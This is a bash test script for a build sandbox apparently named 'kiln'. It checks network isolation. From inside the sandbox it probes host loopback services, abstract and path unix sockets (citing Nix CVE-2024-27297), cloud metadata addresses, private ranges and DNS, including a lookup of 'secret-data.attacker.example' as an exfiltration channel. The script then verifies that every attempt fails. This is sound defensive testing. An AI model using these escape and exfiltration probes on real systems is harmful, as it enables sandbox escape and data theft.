#!/bin/bash
# Class 8, network: host services on loopback, abstract unix sockets (Nix
# CVE-2024-27297), unix sockets on the host filesystem, cloud metadata and
# private ranges, DNS, interfaces. Judged on the host: the host listeners
# recorded nothing; inside, the errno proves there is no route at all
# (ENETUNREACH, answered locally: no packet leaves, nothing is sent from the
# host to the private addresses).
. "$KILN_TESTS/attacks/lib.sh"
require_root

TAG=$(canary)

# --- host services ----------------------------------------------------------
PORT=$(free_port)
TLOG=$WORK/tcp-canary.log
tcp_canary "$PORT" "$TLOG"
check "host TCP/UDP canary listens on 127.0.0.1:$PORT" -- test -e "$TLOG.ready"
# Prove the canary records: one connection from the host itself, then reset.
python3 -c 'import socket,sys; socket.create_connection(("127.0.0.1", int(sys.argv[1])), 2).close()' "$PORT"
sleep 0.3
check "host canary records a host connection (self-test)" -- grep -q '^tcp' "$TLOG"
: > "$TLOG"

ABS="kiln-canary-${TAG}"
ALOG=$WORK/abstract.log
UDIR=$(mktemp -d /tmp/kiln-unix.XXXXXX)
chmod 0777 "$UDIR"
USOCK=$UDIR/sock
python3 - "$ABS" "$ALOG" "$USOCK" >/dev/null 2>&1 <<'PY' &
import os, select, socket, sys
name, log, path = sys.argv[1], sys.argv[2], sys.argv[3]
a = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); a.bind("\0" + name); a.listen(8)
u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); u.bind(path); u.listen(8)
os.chmod(path, 0o777)
open(log + ".ready", "w").close()
while True:
    r, _, _ = select.select([a, u], [], [])
    for s in r:
        c, _ = s.accept(); c.close()
        with open(log, "a") as f:
            f.write("abstract\n" if s is a else "path\n")
PY
UPID=$!
at_exit "kill $UPID 2>/dev/null; rm -rf '$UDIR'"
n=0; while [ ! -e "$ALOG.ready" ] && [ $n -lt 100 ]; do sleep 0.05; n=$((n + 1)); done
python3 -c 'import socket,sys
for a in ("\0" + sys.argv[1], sys.argv[2]):
    s = socket.socket(socket.AF_UNIX); s.connect(a); s.close()' "$ABS" "$USOCK"
sleep 0.3
check "host unix canaries record host connections (self-test)" -- test "$(grep -c . "$ALOG" 2>/dev/null)" -eq 2
: > "$ALOG"

HOST_LINKS=$(ip -o link show 2>/dev/null | awk -F': ' '{print $2}' | sort | tr '\n' ' ')

read -r -d '' INNER <<'EOF'
PORT=$1 ABS=$2 USOCK=$3
mkdir -p out && echo ran > out/sanity
# bash /dev/tcp and /dev/udp
if (exec 3<>/dev/tcp/127.0.0.1/$PORT) 2>/dev/null; then echo "devtcp connected"; else echo "devtcp failed"; fi >> out/net.txt
(echo x > /dev/udp/127.0.0.1/$PORT) 2>/dev/null
python3 - "$PORT" "$ABS" "$USOCK" >> out/net.txt 2>&1 <<'PY'
import errno, os, socket, sys, time
port, absname, usock = int(sys.argv[1]), sys.argv[2], sys.argv[3]
def res(key, fn):
    t = time.monotonic()
    try:
        fn(); r = "OK"
    except OSError as e:
        r = errno.errorcode.get(e.errno, str(e.errno)) if e.errno else type(e).__name__
    except Exception as e:
        r = type(e).__name__
    print(key, r, int((time.monotonic() - t) * 1000))
def tcp(host, p, fam=socket.AF_INET):
    def f():
        s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
        try: s.connect((host, p))
        finally: s.close()
    return f
def udp(host, p, fam=socket.AF_INET):
    def f():
        s = socket.socket(fam, socket.SOCK_DGRAM)
        try: s.sendto(b"kiln-exfil", (host, p))
        finally: s.close()
    return f
def unix(addr):
    def f():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.settimeout(3)
        try: s.connect(addr)
        finally: s.close()
    return f
# Host loopback service.
res("tcp-lo", tcp("127.0.0.1", port))
res("tcp-localhost", tcp("localhost", port))
res("tcp-lo6", tcp("::1", port, socket.AF_INET6))
res("tcp-lo-mapped", tcp("::ffff:127.0.0.1", port, socket.AF_INET6))
res("tcp-lo-127.1.2.3", tcp("127.1.2.3", port))
res("udp-lo", udp("127.0.0.1", port))
# Unix sockets.
res("abstract", unix("\0" + absname))
res("unix-path", unix(usock))
res("unix-path-exists", lambda: os.stat(usock))
# Cloud metadata and private ranges: no route at all.
for h in ["169.254.169.254", "10.0.0.1", "172.16.0.1", "192.168.1.1", "100.100.100.200", "8.8.8.8"]:
    res("tcp-" + h, tcp(h, 80))
res("tcp6-fd00::1", tcp("fd00::1", 80, socket.AF_INET6))
res("tcp6-2001:4860:4860::8888", tcp("2001:4860:4860::8888", 53, socket.AF_INET6))
res("tcp6-metadata-fd00:ec2::254", tcp("fd00:ec2::254", 80, socket.AF_INET6))
# DNS as an exfiltration channel.
res("udp-8.8.8.8:53", udp("8.8.8.8", 53))
res("tcp-8.8.8.8:53", tcp("8.8.8.8", 53))
res("gai-example.com", lambda: socket.getaddrinfo("example.com", 80))
res("gai-exfil", lambda: socket.getaddrinfo("secret-data.attacker.example", 53))
print("ifaces", ",".join(n for _, n in socket.if_nameindex()))
# Sanity: loopback inside works, including an abstract socket of our own.
srv = socket.socket(); srv.bind(("127.0.0.1", port)); srv.listen(1)
res("own-tcp-lo", tcp("127.0.0.1", port))
a = socket.socket(socket.AF_UNIX); a.bind("\0own-" + absname); a.listen(1)
res("own-abstract", unix("\0own-" + absname))
# Packet sockets would bypass routing altogether.
res("af-packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close())
PY
getent hosts example.com > /dev/null 2>&1; echo "getent $?" >> out/net.txt
grep -c '^nameserver' /etc/resolv.conf > out/nameservers
ip -o link show > out/ip-link 2>&1
ip -o addr show > out/ip-addr 2>&1
cat /proc/net/dev > out/proc-net-dev
ip link add kilndummy0 type dummy > out/ip-add 2>&1; echo "ip-link-add $?" >> out/net.txt
ip route add default dev lo > out/ip-route 2>&1; echo "ip-route-add $?" >> out/net.txt
echo done > out/done
EOF
kiln_run --out "$WORK/o" -- bash -c "$INNER" inner "$PORT" "$ABS" "$USOCK"
O=$WORK/o
cat "$O/net.txt" 2>/dev/null | sed 's/^/# inside: /'
check "sanity: the build ran (rc=$RC)" -- test "$RC" -eq 0 -a -f "$O/sanity" -a -f "$O/done"

# res KEY: the outcome recorded inside ("OK", "ECONNREFUSED", ...).
res() { awk -v k="$1" '$1 == k {print $2; exit}' "$O/net.txt" 2>/dev/null; }
res_ms() { awk -v k="$1" '$1 == k {print $3; exit}' "$O/net.txt" 2>/dev/null; }

sleep 0.3
check "host loopback canary recorded no connection and no datagram" -- test ! -s "$TLOG"
check "host abstract and path unix canaries recorded no connection" -- test ! -s "$ALOG"
check "host canaries are still running" -- bash -c "kill -0 $CANARY_PID && kill -0 $UPID"

check "bash /dev/tcp to the host's 127.0.0.1:$PORT failed" -- grep -qx 'devtcp failed' "$O/net.txt"
for k in tcp-lo tcp-localhost tcp-lo-127.1.2.3; do
  check "$k: refused by the sandbox's own loopback ($(res $k))" -- test "$(res $k)" = ECONNREFUSED
done
for k in tcp-lo6 tcp-lo-mapped; do
  check "$k: not connected ($(res $k))" -- test -n "$(res $k)" -a "$(res $k)" != OK
done
diag "udp-lo sendto inside: $(res udp-lo) (a datagram is fire-and-forget; the host log decides)"
check "abstract socket of the host: refused ($(res abstract))" -- test "$(res abstract)" = ECONNREFUSED -o "$(res abstract)" = EPERM
check "host unix socket path does not exist inside ($(res unix-path), $(res unix-path-exists))" -- \
  test "$(res unix-path)" = ENOENT -a "$(res unix-path-exists)" = ENOENT
for h in 169.254.169.254 10.0.0.1 172.16.0.1 192.168.1.1 100.100.100.200 8.8.8.8; do
  check "tcp $h:80 -> ENETUNREACH at once ($(res tcp-$h), $(res_ms tcp-$h) ms)" -- \
    test "$(res tcp-$h)" = ENETUNREACH -a "$(res_ms tcp-$h)" -lt 1000
done
for h in fd00::1 2001:4860:4860::8888 metadata-fd00:ec2::254; do
  check "tcp6 $h -> ENETUNREACH ($(res tcp6-$h))" -- test "$(res tcp6-$h)" = ENETUNREACH
done
check "DNS: UDP to 8.8.8.8:53 -> ENETUNREACH ($(res udp-8.8.8.8:53))" -- test "$(res udp-8.8.8.8:53)" = ENETUNREACH
check "DNS: TCP to 8.8.8.8:53 -> ENETUNREACH ($(res tcp-8.8.8.8:53))" -- test "$(res tcp-8.8.8.8:53)" = ENETUNREACH
check "DNS: getaddrinfo(example.com) fails ($(res gai-example.com))" -- test -n "$(res gai-example.com)" -a "$(res gai-example.com)" != OK
check "DNS: getaddrinfo of an exfiltration name fails ($(res gai-exfil))" -- test -n "$(res gai-exfil)" -a "$(res gai-exfil)" != OK
check "DNS: getent hosts example.com fails" -- bash -c "grep -q '^getent [1-9]' '$O/net.txt'"
check "/etc/resolv.conf inside has no nameserver" -- test "$(cat "$O/nameservers" 2>/dev/null)" = 0
check "interfaces inside: only lo ($(awk '$1=="ifaces"{print $2}' "$O/net.txt"))" -- grep -qx 'ifaces lo' "$O/net.txt"
check "ip link inside lists only lo" -- bash -c "[ -s '$O/ip-link' ] && [ \$(grep -c . '$O/ip-link') -eq 1 ] && grep -q ': lo:' '$O/ip-link'"
check "ip addr inside: only 127.0.0.1 and ::1" -- bash -c "[ -s '$O/ip-addr' ] && ! grep -E 'inet6? ' '$O/ip-addr' | grep -vqE 'inet 127\.0\.0\.1/8|inet6 ::1/128'"
check "/proc/net/dev inside lists only lo" -- bash -c "[ \$(tail -n +3 '$O/proc-net-dev' | grep -c .) -eq 1 ] && tail -n +3 '$O/proc-net-dev' | grep -q '^ *lo:'"
check "creating an interface fails inside" -- grep -q '^ip-link-add [1-9]' "$O/net.txt"
check "adding a route fails inside" -- grep -q '^ip-route-add [1-9]' "$O/net.txt"
check "AF_PACKET socket refused ($(res af-packet))" -- test -n "$(res af-packet)" -a "$(res af-packet)" != OK
check "host interfaces unchanged" -- test "$(ip -o link show 2>/dev/null | awk -F': ' '{print $2}' | sort | tr '\n' ' ')" = "$HOST_LINKS"
check "host has no interface named kilndummy0" -- bash -c "! ip link show kilndummy0 >/dev/null 2>&1"
check "sanity: the sandbox's own loopback works ($(res own-tcp-lo))" -- test "$(res own-tcp-lo)" = OK
check "sanity: the sandbox's own abstract socket works ($(res own-abstract))" -- test "$(res own-abstract)" = OK

done_testing
